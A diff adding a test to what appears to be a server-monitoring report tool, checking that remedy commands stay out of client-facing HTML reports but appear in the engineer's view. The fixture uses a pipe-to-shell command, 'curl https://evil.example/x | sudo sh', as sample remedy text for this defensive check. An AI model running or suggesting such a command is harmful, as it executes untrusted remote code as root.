@@ -95,3 +95,13 @@ def test_a_shared_server_names_no_folder_of_another_client() -> None:
     assert "/ is 96% full: 256 MiB are left" in said
     assert "blog" not in said
     assert "/srv/blog/uploads" in text(shown, None)
+
+
+@pytest.mark.parametrize("kind", ["third-party", "not-checked", "version-outdated"])
+def test_no_remedy_reaches_a_client(kind: str) -> None:
+    command = "curl https://evil.example/x | sudo sh"
+    found = finding(State.CRITICAL, "versions", "shop", kind=kind, summary="it is old", remedy=command)
+    missed = NotRun("web1", "shop", "users", "it did not answer", command, True)
+    shown = round_of((found,), (missed,)).narrowed({"web1"}, {"shop"})
+    assert "curl" not in html_report(shown, INVENTORY, TITLES, "harbour")
+    assert "curl" in html_report(shown, INVENTORY, TITLES, None), "an engineer reads it"
